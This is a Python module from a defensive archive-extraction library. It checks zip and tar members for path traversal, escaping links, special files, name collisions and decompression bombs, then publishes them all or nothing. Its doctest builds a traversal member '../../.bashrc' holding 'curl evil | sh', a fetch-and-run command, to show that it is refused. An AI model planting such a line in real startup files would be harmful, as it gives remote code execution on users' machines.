"""Extract an archive: plan every member, stage the files, then publish them all."""

from __future__ import annotations

import contextlib
import enum
import os
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Final

from safename._fs.staging import NameTakenError, Staging, opened_chain
from safename._fs.temporaries import roll_back_abandoned
from safename.archives import _formats as formats
from safename.archives._formats import Entry, Kind
from safename.errors import FilenameReason, PathReason, SafenameError
from safename.paths import opened_directory, path_problem, segment_problem

#: :func:`safe_extract`'s default limits: members, expanded bytes, and expansion ratio.
DEFAULT_MAX_MEMBERS: Final = 10_000
DEFAULT_MAX_TOTAL_BYTES: Final = 1 << 30
DEFAULT_MAX_RATIO: Final = 200
#: ... and the components in one member's path, and its length in UTF-8 bytes
#: (Linux's PATH_MAX: a longer path could not be opened whole there anyway).
DEFAULT_MAX_DEPTH: Final = 64
DEFAULT_MAX_PATH_BYTES: Final = 4096
_CHUNK_BYTES: Final = 64 * 1024
#: An archive that expands to less than this is never refused for its ratio:
#: a small, very compressible text file is not a bomb.
RATIO_FLOOR_BYTES: Final = 1 << 20


class ArchiveReason(enum.Enum):
    """Why :func:`safe_extract` refused an archive (the value is a stable, short code).

    The first seven are :class:`~safename.PathReason`'s, for a member name
    that :func:`~safename.safe_join` would refuse.
    """

    TRAVERSAL = "traversal"
    ABSOLUTE = "absolute"
    DRIVE = "drive"
    UNC = "unc"
    BACKSLASH = "backslash"
    NUL = "nul"
    DEVICE_NAME = "device_name"
    #: Empty, or a component the preserving name profile refuses
    #: (:attr:`Profile.PRESERVING <safename.Profile.PRESERVING>`): a control,
    #: invisible or bidi character, a colon, a trailing dot or space, a
    #: look-alike of a separator, undecodable bytes, over 255 bytes. The
    #: detail names the :class:`~safename.FilenameReason`.
    INVALID_NAME = "invalid_name"
    #: A symbolic or hard link, and links are not allowed.
    LINK = "link"
    #: An allowed link that points outside the archive's own members, or a
    #: member written through a link.
    LINK_ESCAPES = "link_escapes"
    #: A device, a FIFO, a sparse file, or a type the reader does not know.
    SPECIAL_FILE = "special_file"
    #: A component in safename's own namespace (``.safename-...`` in any case
    #: or look-alike spelling): :func:`~safename.uploads.sweep` would take it for
    #: a leftover, so no archive may create one.
    RESERVED_NAME = "reserved_name"
    #: Two members with one name after NFC normalization and case folding
    #: (or a file used as a directory).
    COLLISION = "collision"
    #: A member's path exists in the directory already.
    EXISTS = "exists"
    TOO_MANY_MEMBERS = "too_many_members"
    TOO_LARGE = "too_large"
    COMPRESSION_RATIO = "compression_ratio"
    #: A member's path has more components than ``max_depth``.
    TOO_DEEP = "too_deep"
    #: A member's path is longer than ``max_path_bytes`` in UTF-8.
    PATH_TOO_LONG = "path_too_long"
    #: Not a zip or tar, corrupt, truncated, encrypted, or a checksum mismatch.
    UNREADABLE = "unreadable"


class UnsafeArchiveError(SafenameError):
    """:func:`safe_extract` refused an archive; the directory was left exactly as it was.

    ``member`` is the member's name as stored (``None`` when the refusal is
    about the whole archive), ``reason`` an :class:`ArchiveReason`.

    >>> error = UnsafeArchiveError("../evil.sh", ArchiveReason.TRAVERSAL)
    >>> error.member, error.reason.value
    ('../evil.sh', 'traversal')
    >>> str(error)
    "unsafe archive member '../evil.sh': traversal"
    """

    def __init__(self, member: str | None, reason: ArchiveReason, detail: str = "") -> None:
        where = "unsafe archive" if member is None else f"unsafe archive member {member!r}"
        suffix = f" ({detail})" if detail else ""
        super().__init__(f"{where}: {reason.value}{suffix}")
        self.member = member
        self.reason = reason


def safe_extract(
    archive: str | os.PathLike[str] | IO[bytes],
    directory: str | os.PathLike[str],
    *,
    max_members: int = DEFAULT_MAX_MEMBERS,
    max_total_bytes: int = DEFAULT_MAX_TOTAL_BYTES,
    max_ratio: float = DEFAULT_MAX_RATIO,
    max_depth: int = DEFAULT_MAX_DEPTH,
    max_path_bytes: int = DEFAULT_MAX_PATH_BYTES,
    allow_links: bool = False,
    dry_run: bool = False,
) -> list[Path]:
    """Extract a zip or tar archive into *directory*, all or nothing.

    Reads zip and tar (plain, gzip, bzip2, xz), from a path or a binary file
    object (a zip needs one that can seek). Guarantees:

    * every member name passes :func:`~safename.safe_join`'s rules (no
      traversal, absolute path, drive, UNC path, backslash, NUL or Windows
      device name in any component), and has no control character;
    * no component is in safename's own namespace (``.safename-...``, see
      :func:`safename.paths.is_reserved_name`): an extracted entry is never
      taken for a leftover temporary, and never removed by
      :func:`safename.uploads.sweep`;
    * no two members share a name after NFC normalization and case folding
      (``a.txt`` and ``A.txt`` would replace each other on macOS and Windows);
    * tar symbolic links, hard links, devices, FIFOs and sparse files are
      refused, and so are zip members marked as links or devices. With
      *allow_links*, a link is accepted only if it points to another member of
      the archive without passing through a link; no member is ever written
      through one;
    * the limits are enforced while streaming, on the sizes the headers
      declare and again on the bytes actually written: a bomb stops at the
      limit, before it is written. The ratio is the expanded size over the
      archive's size, checked once more than 1 MiB has expanded;
    * no member's path is deeper than *max_depth* components or longer than
      *max_path_bytes*: checked on each name as it is first seen (a zip's
      from its central directory, before any data is read), before anything
      is written. Within the limits, the work is linear in the members'
      name lengths, whatever their depth: no directory chain is walked
      again and again, and nothing recurses as deep as a member;
    * nothing existing is overwritten, and no symlink already in *directory*
      is followed (an existing directory is merged into, a file is not); a
      member whose name differs from an existing entry's only in case or
      normalization is refused too;
    * all or nothing: the members are written into a hidden temporary
      directory inside *directory* (``.safename-extract-<16 hex>.part``), then
      each one published with an atomic rename that never replaces
      (:func:`safename.paths.move_without_replacing`). On any refusal or
      error, what was published is taken back and the temporary directory
      removed: *directory* is left exactly as it was. A process killed while
      writing leaves only the temporary directory; one killed while
      publishing leaves a journal in it, and the next ``safe_extract`` into
      *directory*, or :func:`safename.uploads.sweep`, takes the published
      part back (roll back), touching only entries it moved itself.

    Files get the default mode (``0o666`` less the umask): never the
    archive's set-user-ID or executable bits, nor its owner.

    :param archive: a path, or a binary file object open for reading (read
        from its current position).
    :param directory: an existing directory (trusted; a symlink to one is followed once).
    :param max_members: the most members accepted, directories included.
    :param max_total_bytes: the most bytes all files may expand to.
    :param max_ratio: the most the archive may expand, as a multiple of its size.
    :param max_depth: the most components in a member's path (``a/b/c.txt`` has 3).
    :param max_path_bytes: the longest member path, in UTF-8 bytes, as the archive spells it.
    :param allow_links: accept links that point to another member.
    :param dry_run: check everything, reading all the data, but write nothing.
    :returns: the path of every member written (or that would be), in archive order.
    :raises UnsafeArchiveError: (a ``ValueError``) with an :class:`ArchiveReason`.
    :raises OSError: if writing failed (the directory is left as it was).

    >>> import io, os, tempfile, zipfile
    >>> buffer = io.BytesIO()
    >>> with zipfile.ZipFile(buffer, "w") as archive:
    ...     archive.writestr("photos/cat.jpg", b"...")
    ...     archive.writestr("../../.bashrc", b"curl evil | sh")
    >>> _ = buffer.seek(0)
    >>> folder = tempfile.mkdtemp()
    >>> safe_extract(buffer, folder)
    Traceback (most recent call last):
    ...
    safename.archives.UnsafeArchiveError: unsafe archive member '../../.bashrc': traversal
    >>> os.listdir(folder)
    []
    """
    plan = _Plan(allow_links=allow_links)
    limits = _Limits(
        max_members,
        max_total_bytes,
        max_ratio,
        max_depth=max_depth,
        max_path_bytes=max_path_bytes,
    )
    with opened_directory(directory, follow_symlinks=True) as target_fd:
        if not dry_run:  # what a killed extraction left published here is taken back first
            roll_back_abandoned(target_fd)
        staging = None if dry_run else Staging(target_fd)
        try:
            _extract_all(archive, target_fd, plan, limits, staging)
            if staging is not None:
                _publish(staging)
        except BaseException:
            if staging is not None:
                staging.abandon()
            raise
        if staging is not None:
            # Committed: the archive is whole. A staging directory that cannot be removed
            # now holds nothing of it, and sweep removes it later.
            with contextlib.suppress(OSError):
                staging.remove()
    return [Path(directory, *member.parts) for member in plan.members]


def _publish(staging: Staging) -> None:
    try:
        staging.publish()
    except NameTakenError as error:  # taken since the check, by another process
        raise UnsafeArchiveError(error.path, ArchiveReason.EXISTS) from None


@dataclass(frozen=True)
class _Member:
    name: str
    parts: tuple[str, ...]
    kind: Kind
    link: str | None


def _extract_all(
    archive: str | os.PathLike[str] | IO[bytes],
    target_fd: int,
    plan: _Plan,
    limits: _Limits,
    staging: Staging | None,
) -> None:
    """Check and write every member into *staging* (or only read it, for a dry run)."""
    current: str | None = None
    existing = _Existing(target_fd)
    try:
        with formats.open_archive(archive) as opened:
            limits.start(opened)
            for entry in opened.entries:
                current = entry.name
                limits.count(entry.name)
                limits.check_path(entry.name)  # before the name is split and folded
                member = plan.add(entry)
                if member is not None:
                    existing.check(member)
                    _extract_one(entry, member, limits, staging)
            current = None
            plan.finish()
    except UnsafeArchiveError:
        raise  # a ValueError too: not to be taken for a corrupt archive below
    except formats.CORRUPT_ERRORS as error:
        if isinstance(error, formats.CorruptDataError) and error.member is not None:
            current = error.member  # raised while reading the next entry, before it was seen
        raise UnsafeArchiveError(current, ArchiveReason.UNREADABLE, str(error)) from error
    except formats.OverBudgetError as error:
        detail = "a header or hidden data larger than its members declare"
        raise UnsafeArchiveError(current, ArchiveReason.TOO_LARGE, detail) from error


def _extract_one(entry: Entry, member: _Member, limits: _Limits, staging: Staging | None) -> None:
    if member.kind is Kind.FILE:
        limits.declare(entry.name, entry.size)
        with entry.open() as data:
            _copy(entry, data, limits, staging.create_file(member.parts) if staging else None)
    elif staging is None:
        return
    elif member.kind is Kind.DIRECTORY:
        staging.directory(member.parts)
    elif member.kind is Kind.SYMLINK:
        os.symlink(member.link or "", member.parts[-1], dir_fd=staging.directory(member.parts[:-1]))
    else:  # a hard link to an earlier member, checked by the plan
        staging.link(_member_parts(member.link or ""), member.parts)


def _copy(entry: Entry, data: IO[bytes], limits: _Limits, file_fd: int | None) -> None:
    """Stream a member's data into *file_fd* (or nowhere), within the limits."""
    written = 0
    try:
        while chunk := _read(entry, data):
            written += len(chunk)
            if written > entry.size:
                detail = "more data than its header declares"
                raise UnsafeArchiveError(entry.name, ArchiveReason.UNREADABLE, detail)
            limits.wrote(entry.name, len(chunk))
            if file_fd is not None:
                view = memoryview(chunk)
                while view:
                    view = view[os.write(file_fd, view) :]
    finally:
        if file_fd is not None:
            os.close(file_fd)


def _read(entry: Entry, data: IO[bytes]) -> bytes:
    """The next chunk of a member; a decompressor's ``OSError`` means a corrupt archive."""
    try:
        return data.read(_CHUNK_BYTES)
    except OSError as error:
        raise UnsafeArchiveError(entry.name, ArchiveReason.UNREADABLE, str(error)) from error


def _member_parts(name: str) -> tuple[str, ...]:
    """The components of a member name, or :class:`UnsafeArchiveError` if one is unsafe.

    Each component is judged by the preserving name profile, as
    :func:`~safename.safe_join` judges it: the archive's own names are kept.
    """
    problem = path_problem(name)
    parts = tuple(part for part in name.split("/") if part not in ("", "."))
    if problem is PathReason.UNSAFE_NAME:
        for part in parts:
            reason = segment_problem(part)
            if reason is not None:
                raise _name_refused(name, part, reason)
    if problem is not None:
        raise UnsafeArchiveError(name, ArchiveReason(problem.value))
    return parts


def _name_refused(name: str, part: str, reason: FilenameReason) -> UnsafeArchiveError:
    if reason is FilenameReason.RESERVED_NAMESPACE:
        detail = f"{part!r} is in safename's own namespace"
        return UnsafeArchiveError(name, ArchiveReason.RESERVED_NAME, detail)
    detail = f"{part!r}: {reason.value}"
    return UnsafeArchiveError(name, ArchiveReason.INVALID_NAME, detail)


def _key(part: str) -> str:
    """What a name component becomes on a case-insensitive, normalizing file system."""
    folded = unicodedata.normalize("NFC", unicodedata.normalize("NFC", part).casefold())
    # Windows drops trailing dots and spaces: "a.txt." is "a.txt" there.
    return folded.rstrip(". ") or folded


class _Seen:
    """One name the archive has claimed: a node of a tree keyed by folded components.

    A tree rather than a dict of whole folded paths: claiming a member d components
    deep then looks at each component once, instead of hashing every prefix of it
    (d²/2 components).
    """

    __slots__ = ("children", "kind", "parent", "part")

    def __init__(self, part: str, kind: Kind, parent: _Seen | None) -> None:
        self.part = part  # this component, spelled as the archive first spelled it
        self.kind = kind
        self.parent = parent
        self.children: dict[str, _Seen] = {}

    @property
    def spelling(self) -> tuple[str, ...]:
        """The whole path, as spelled: built only to name a member in an error."""
        parts: list[str] = []
        node: _Seen | None = self
        while node is not None and node.parent is not None:
            parts.append(node.part)
            node = node.parent
        return tuple(reversed(parts))


@dataclass
class _Plan:
    """The members accepted so far, by their folded names, and the links still to check."""

    allow_links: bool
    members: list[_Member] = field(default_factory=list)
    _root: _Seen = field(default_factory=lambda: _Seen("", Kind.DIRECTORY, None))
    _symlinks: list[_Member] = field(default_factory=list)

    def add(self, entry: Entry) -> _Member | None:
        """Check *entry*: the member to write, or ``None`` (the root, a directory repeated)."""
        parts = _member_parts(entry.name)
        if entry.unreadable is not None:
            raise UnsafeArchiveError(entry.name, ArchiveReason.UNREADABLE, entry.unreadable)
        if entry.kind is Kind.SPECIAL:
            raise UnsafeArchiveError(entry.name, ArchiveReason.SPECIAL_FILE)
        is_link = entry.kind in (Kind.SYMLINK, Kind.HARDLINK)
        if is_link and not self.allow_links:
            raise UnsafeArchiveError(entry.name, ArchiveReason.LINK, f"to {entry.link!r}")
        if not parts:
            if entry.kind is Kind.DIRECTORY:
                return None  # "./": the directory itself
            raise UnsafeArchiveError(entry.name, ArchiveReason.INVALID_NAME, "an empty name")
        if not self._claim(entry.name, parts, entry.kind):
            return None
        member = _Member(entry.name, parts, entry.kind, entry.link)
        if entry.kind is Kind.HARDLINK:
            self._check_hardlink(member)
        elif entry.kind is Kind.SYMLINK:
            if not _plausible_link(member.link or ""):
                detail = f"to {member.link!r}, not a relative path inside the archive"
                raise UnsafeArchiveError(member.name, ArchiveReason.LINK_ESCAPES, detail)
            self._symlinks.append(member)  # resolved once every member is known
        self.members.append(member)
        return member

    def _claim(self, name: str, parts: tuple[str, ...], kind: Kind) -> bool:
        node = self._root
        for part in parts[:-1]:
            seen = node.children.get(_key(part))
            if seen is None:
                seen = node.children[_key(part)] = _Seen(part, Kind.DIRECTORY, node)
            if seen.kind is Kind.SYMLINK:
                detail = f"written through the link {'/'.join(seen.spelling)!r}"
                raise UnsafeArchiveError(name, ArchiveReason.LINK_ESCAPES, detail)
            # Every component above matched its spelling, so comparing this one compares
            # the whole prefix.
            if seen.kind is not Kind.DIRECTORY or seen.part != part:
                raise _collision(name, seen)
            node = seen
        key = _key(parts[-1])
        existing = node.children.get(key)
        if existing is None:
            node.children[key] = _Seen(parts[-1], kind, node)
            return True
        if kind is Kind.DIRECTORY is existing.kind and existing.part == parts[-1]:
            return False  # a directory named again, or after a member inside it
        raise _collision(name, existing)

    def _find(self, parts: Iterable[str]) -> _Seen | None:
        """The claimed name spelled exactly *parts*, or ``None``."""
        node: _Seen | None = self._root
        for part in parts:
            node = node.children.get(_key(part)) if node is not None else None
            if node is None or node.part != part:
                return None
        return node

    def _check_hardlink(self, member: _Member) -> None:
        try:
            source = _member_parts(member.link or "")
        except UnsafeArchiveError:
            source = ()
        seen = self._find(source) if source else None
        if seen is None or seen.kind is not Kind.FILE:
            detail = f"to {member.link!r}, not an earlier file of the archive"
            raise UnsafeArchiveError(member.name, ArchiveReason.LINK_ESCAPES, detail)

    def finish(self) -> None:
        """Check each symbolic link against the whole archive: it must point to a member."""
        for member in self._symlinks:
            if not self._resolves_inside(member):
                detail = f"to {member.link!r}, not another member of the archive"
                raise UnsafeArchiveError(member.name, ArchiveReason.LINK_ESCAPES, detail)

    def _resolves_inside(self, member: _Member) -> bool:
        # The nodes from the root down to where the target points: ".." pops one.
        start = self._find(member.parts[:-1])
        if start is None:  # pragma: no cover - the link's own directories were claimed
            return False
        chain: list[_Seen] = []
        node: _Seen | None = start
        while node is not None and node.parent is not None:
            chain.append(node)
            node = node.parent
        chain.reverse()
        for part in (member.link or "").split("/"):
            if part in ("", "."):
                continue
            if part == "..":
                if not chain:
                    return False
                chain.pop()
                continue
            above = chain[-1] if chain else self._root
            seen = above.children.get(_key(part))
            if seen is None or seen.kind is Kind.SYMLINK or seen.part != part:
                return False
            chain.append(seen)
        return bool(chain)


def _plausible_link(target: str) -> bool:
    """Whether a link target could stay inside: not empty, relative, and only ``..`` may climb."""
    if not target or target.startswith("/"):
        return False
    return path_problem(target.replace("..", "x")) is None


def _collision(name: str, seen: _Seen) -> UnsafeArchiveError:
    other = "/".join(seen.spelling)
    return UnsafeArchiveError(name, ArchiveReason.COLLISION, f"with {other!r} ({seen.kind.value})")


class _Limits:
    """The member count, each member's depth and path length, and the size and ratio."""

    def __init__(
        self,
        max_members: int,
        max_total_bytes: int,
        max_ratio: float,
        *,
        max_depth: int = DEFAULT_MAX_DEPTH,
        max_path_bytes: int = DEFAULT_MAX_PATH_BYTES,
    ) -> None:
        self.max_members = max_members
        self.max_total_bytes = max_total_bytes
        self.max_ratio = max_ratio
        self.max_depth = max_depth
        self.max_path_bytes = max_path_bytes
        self.members = self.declared = self.written = 0
        self._opened: formats.Opened | None = None

    def start(self, opened: formats.Opened) -> None:
        """Check what a zip declares in its central directory, before anything is written."""
        self._opened = opened
        if opened.declared is None:
            return
        if len(opened.declared) > self.max_members:
            raise self._too_many(None)
        total = 0
        for name, size in opened.declared:
            self.check_path(name)
            total += size
            self._check(name, total, ratio=True)

    def count(self, name: str) -> None:
        """One more member."""
        self.members += 1
        if self.members > self.max_members:
            raise self._too_many(name)
        if self._opened is not None and self._opened.budget is not None:
            self._opened.budget.allowance += formats.HEADER_ALLOWANCE

    def check_path(self, name: str) -> None:
        """Refuse a member path deeper than ``max_depth`` or longer than ``max_path_bytes``.

        Linear in the name's length, and the first look at it: what comes
        after (splitting, folding, staging) is then bounded by the limits.
        """
        parts = name.split("/")  # counted as _member_parts does: no "" or "." component
        depth = len(parts) - parts.count("") - parts.count(".")
        if depth > self.max_depth:
            detail = f"{depth} levels deep, more than {self.max_depth}"
            raise UnsafeArchiveError(name, ArchiveReason.TOO_DEEP, detail)
        # surrogatepass: a tar name's undecodable bytes are counted, refused later by name.
        length = len(name.encode("utf-8", "surrogatepass"))
        if length > self.max_path_bytes:
            detail = f"{length} bytes, more than {self.max_path_bytes}"
            raise UnsafeArchiveError(name, ArchiveReason.PATH_TOO_LONG, detail)

    def declare(self, name: str, size: int) -> None:
        """A file member of *size* bytes, as its header says: refuse it before writing."""
        self.declared += size
        # Against a size still being learnt, a declared size would be judged too early.
        self._check(name, self.declared, ratio=self._opened is not None and self._opened.size_known)
        if self._opened is not None and self._opened.budget is not None:
            self._opened.budget.allowance += formats.padded(size)

    def wrote(self, name: str, count: int) -> None:
        """*count* more bytes expanded: refuse before they are written."""
        self.written += count
        self._check(name, self.written, ratio=True)

    def _check(self, name: str | None, total: int, *, ratio: bool) -> None:
        assert self._opened is not None  # start() runs first; not about user input
        compressed = max(self._opened.size(), 1)
        if ratio and total > RATIO_FLOOR_BYTES and total > self.max_ratio * compressed:
            detail = f"{total} bytes from {compressed}, more than {self.max_ratio:g} times"
            raise UnsafeArchiveError(name, ArchiveReason.COMPRESSION_RATIO, detail)
        if total > self.max_total_bytes:
            detail = f"more than {self.max_total_bytes} bytes in all"
            raise UnsafeArchiveError(name, ArchiveReason.TOO_LARGE, detail)

    def _too_many(self, name: str | None) -> UnsafeArchiveError:
        detail = f"more than {self.max_members} members"
        return UnsafeArchiveError(name, ArchiveReason.TOO_MANY_MEMBERS, detail)


class _Existing:
    """What the target already holds, listed once per directory and folded as member names are.

    A member is refused if its path exists (``EXISTS``; existing directories
    are merged into), or if an entry there has its name in another case or
    normalization (``COLLISION``): on macOS or Windows the two are one file.
    """

    def __init__(self, target_fd: int) -> None:
        self._target_fd = target_fd
        self._listings: dict[tuple[str, ...], dict[str, tuple[str, bool]]] = {}

    def check(self, member: _Member) -> None:
        """Raise :class:`UnsafeArchiveError` if *member* would meet an existing entry."""
        for index, part in enumerate(member.parts):
            found = self._listing(member.parts[:index]).get(_key(part))
            if found is None:
                return
            actual, is_directory = found
            where = "/".join((*member.parts[:index], actual))
            if actual != part:
                detail = f"with {where!r}, which exists"
                raise UnsafeArchiveError(member.name, ArchiveReason.COLLISION, detail)
            last = index == len(member.parts) - 1
            if not is_directory or (last and member.kind is not Kind.DIRECTORY):
                raise UnsafeArchiveError(member.name, ArchiveReason.EXISTS, f"{where!r} exists")

    def _listing(self, parts: tuple[str, ...]) -> dict[str, tuple[str, bool]]:
        """The entries of the existing directory *parts* (a real one, reached without links)."""
        listing = self._listings.get(parts)
        if listing is None:
            with (
                opened_chain(self._target_fd, parts) as directory_fd,
                os.scandir(directory_fd) as it,
            ):
                listing = {
                    _key(entry.name): (entry.name, entry.is_dir(follow_symlinks=False))
                    for entry in it
                }
            self._listings[parts] = listing
        return listing
